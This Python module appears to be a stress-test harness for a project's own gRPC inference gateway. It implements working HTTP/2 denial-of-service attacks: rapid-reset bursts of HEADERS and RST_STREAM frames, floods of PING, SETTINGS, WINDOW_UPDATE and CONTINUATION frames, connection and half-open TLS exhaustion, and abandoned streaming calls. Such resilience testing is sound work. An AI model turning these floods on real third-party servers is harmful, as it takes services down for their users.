"""Attacks on the gRPC port by frames that no client library sends. None needs a key.

Each runs until its time is over and gives how much it did. One that is cut off connects again at once.
"""

import contextlib
import dataclasses
import random
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator

import grpc
from sluice.v1 import inference_pb2, inference_pb2_grpc, types_pb2

from benchmarks import gateway_client as client
from tests.services.gateway.raw_http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    headers,
    message,
)

BEGIN = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0)
BATCH = 512  # streams whose frames are sent in one piece
NUM_LANES = 16  # connections that it is spread over
MAX_STREAM = (1 << 31) - 2 * BATCH  # number of a connection's last stream
CANCEL = struct.pack(">I", 8)


@dataclasses.dataclass
class Target:
    """Where to, how long, and what was done so far."""

    host: str
    port: int
    end_s: float
    num_sent: int = 0
    num_connections: int = 0

    @property
    def is_over(self) -> bool:
        """Whether its time is over."""
        return time.monotonic() >= self.end_s

    def connect(self) -> socket.socket:
        """A connection that HTTP/2 was begun on."""
        made = socket.create_connection((self.host, self.port), 5.0)
        made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        made.settimeout(None)  # else Python itself waits where MSG_DONTWAIT says not to
        made.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 1, 0))
        made.sendall(BEGIN)
        self.num_connections += 1
        return made

    def paced(self, per_second: float) -> Iterator[int]:
        """Numbers from 0 on, so many a second."""
        start_s, num = time.monotonic(), 0
        while not self.is_over:
            yield num
            num += 1
            wait_s = start_s + num / per_second - time.monotonic()
            if wait_s > 0:
                time.sleep(wait_s)


def again_and_again(target: Target, flood: Callable[[socket.socket], None]) -> None:
    """Run `flood` on a connection until time is over, on another one whenever it is cut off."""
    while not target.is_over:
        with contextlib.suppress(OSError), target.connect() as connection:
            flood(connection)


def bad_paths(target: Target, per_second: float) -> None:
    """One HEADERS frame with a path that is not UTF-8, each on a connection of its own."""
    data = headers(1, "Generate").replace(b"InferenceS", b"Inferen\xbeeS") + message(1, b"")
    for _ in target.paced(per_second):
        with contextlib.suppress(OSError), target.connect() as connection:
            connection.sendall(data)
            target.num_sent += 1
            connection.settimeout(0.2)
            connection.recv(1 << 16)


@dataclasses.dataclass
class _Lane:
    """One of several connections that are used in turn."""

    connection: socket.socket | None = None
    next_stream: int = 3
    is_heard: bool = False  # the server has read what it began with

    def end(self) -> None:
        """Begin anew the next time."""
        self.connection, self.next_stream, self.is_heard = None, 3, False


def rapid_reset(target: Target, per_second: float, *, is_patient: bool = False) -> None:
    """HEADERS and RST_STREAM of one stream after the other, on several connections in turn; all headers are told by
    HPACK's indices. One that is patient waits on each connection until the server has answered."""
    learnt = frame(HEADERS, END_HEADERS, 1, _fields(b"\x40")) + frame(RST_STREAM, 0, 1, CANCEL)
    lanes = [_Lane() for _ in range(NUM_LANES)]
    for num in target.paced(per_second / BATCH):
        lane = lanes[num % NUM_LANES]
        try:
            if lane.connection is None:
                lane.connection = target.connect()
                lane.connection.sendall(b"" if is_patient else learnt)
            if is_patient and not lane.is_heard:
                lane.is_heard = _ACKNOWLEDGED in _swallow(lane.connection)
                if not lane.is_heard:
                    continue
                lane.connection.sendall(learnt)
            _reset_batch(target, lane)
        except OSError:
            lane.end()


def patient_rapid_reset(target: Target, per_second: float) -> None:
    """`rapid_reset` that is patient."""
    rapid_reset(target, per_second, is_patient=True)


def _reset_batch(target: Target, lane: _Lane) -> None:
    assert lane.connection is not None
    known = b"\x83\x86\xc1\xc0\xbf\xbe"  # POST, http, and the four that were told first
    last = lane.next_stream + 2 * BATCH
    streams = range(lane.next_stream, last, 2)
    lane.connection.sendall(b"".join([_opened_and_reset(one, known) for one in streams]))
    _swallow(lane.connection)
    target.num_sent += BATCH
    lane.next_stream = last
    if last >= MAX_STREAM:
        lane.end()


def calls(target: Target, per_second: float) -> None:
    """Whole calls of Health.Check, whose answers nothing waits for."""

    def flood(connection: socket.socket) -> None:
        for num in target.paced(per_second / 32):
            first = 1 + 2 * 32 * num
            made = [frame(HEADERS, END_HEADERS, one, _CHECK) + message(one, b"") for one in range(first, first + 64, 2)]
            connection.sendall(b"".join(made))
            target.num_sent += 32
            _swallow(connection)

    again_and_again(target, flood)


def repeated(data: bytes, num: int, opening: bytes = b"") -> Callable[[Target, float], None]:
    """The same frame over and over, `num` of it in one piece, behind `opening`."""

    def attack(target: Target, per_second: float) -> None:
        def flood(connection: socket.socket) -> None:
            connection.sendall(opening)
            for _ in target.paced(per_second / num):
                connection.sendall(data * num)
                target.num_sent += num
                _swallow(connection)

        again_and_again(target, flood)

    return attack


def connections(target: Target, num: float) -> None:
    """So many that say nothing more, and stay."""
    _hold(target, int(num), target.connect)


def silent(target: Target, num: float) -> None:
    """So many connections on which nothing is ever said."""
    _hold(target, int(num), lambda: socket.create_connection((target.host, target.port), 5.0))


def half_open_tls(target: Target, num: float) -> None:
    """So many handshakes of TLS that end with the client's first message."""
    hello = _client_hello()

    def begin() -> socket.socket:
        made = socket.create_connection((target.host, target.port), 5.0)
        made.sendall(hello)
        return made

    _hold(target, int(num), begin)


def _hold(target: Target, num: int, begin: Callable[[], socket.socket]) -> None:
    """Hold so many connections until time is over; one that is closed is opened again."""
    held: list[socket.socket] = []
    while not target.is_over:
        held = [one for one in held if not _is_closed(one)]
        with contextlib.suppress(OSError):
            while len(held) < num and not target.is_over:
                held.append(begin())
                target.num_sent += 1
        time.sleep(0.05)
    for one in held:
        one.close()


def _is_closed(connection: socket.socket) -> bool:
    connection.settimeout(None)  # else Python itself waits where MSG_DONTWAIT says not to
    try:
        _swallow(connection)
    except OSError:
        connection.close()
        return True
    return False


def _client_hello() -> bytes:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.set_alpn_protocols(["h2"])
    sent = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost").do_handshake()
    return sent.read()


def _fields(prefix: bytes, path: bytes = b"/sluice.v1.InferenceService/Generate") -> bytes:
    """The headers of a call, of which HPACK may keep four for later."""
    kept = [
        (b":path", path),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]
    return b"\x83\x86" + b"".join(
        prefix + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in kept
    )


def _opened_and_reset(stream: int, fields: bytes) -> bytes:
    number = struct.pack(">I", stream)
    return b"\0\0\x06\x01\x04" + number + fields + b"\0\0\x04\x03\0" + number + CANCEL


def _swallow(connection: socket.socket) -> bytes:
    """Take what came back, so that what is sent does not stop."""
    taken = b""
    with contextlib.suppress(BlockingIOError):
        while chunk := connection.recv(1 << 20, socket.MSG_DONTWAIT):
            taken += chunk
        raise ConnectionResetError
    return taken


_ACKNOWLEDGED = frame(SETTINGS, 1, 0)
_CHECK = _fields(b"\x00", b"/grpc.health.v1.Health/Check")
_OPEN = frame(HEADERS, END_HEADERS, 1, _fields(b"\x00"))
PINGS = repeated(frame(PING, 0, 0, b"12345678"), 256)
SETTINGS_FRAMES = repeated(frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64"), 256)
WINDOW_UPDATES = repeated(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), 256, _OPEN)
EMPTY_DATA = repeated(frame(DATA, 0, 1), 256, _OPEN)
CONTINUATIONS = repeated(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 16), 64, frame(HEADERS, 0, 1, _fields(b"\x00")))


def detached(target: Target, per_second: float) -> None:
    """Generations that outlive their readers, each left after its first token and never asked for again."""
    detach = types_pb2.SchedulingOptions(on_disconnect=types_pb2.DISCONNECT_ACTION_DETACH)
    spec = client.spec(200, random.Random(2))
    spec.scheduling.CopyFrom(detach)
    request = inference_pb2.StreamGenerateRequest(spec=spec)
    with grpc.insecure_channel(f"{target.host}:{target.port}") as channel:
        stub = inference_pb2_grpc.InferenceServiceStub(channel)
        for _ in target.paced(per_second):
            call = stub.StreamGenerate(request)
            with contextlib.suppress(grpc.RpcError):
                next(call), next(call)
                target.num_sent += 1
            call.cancel()
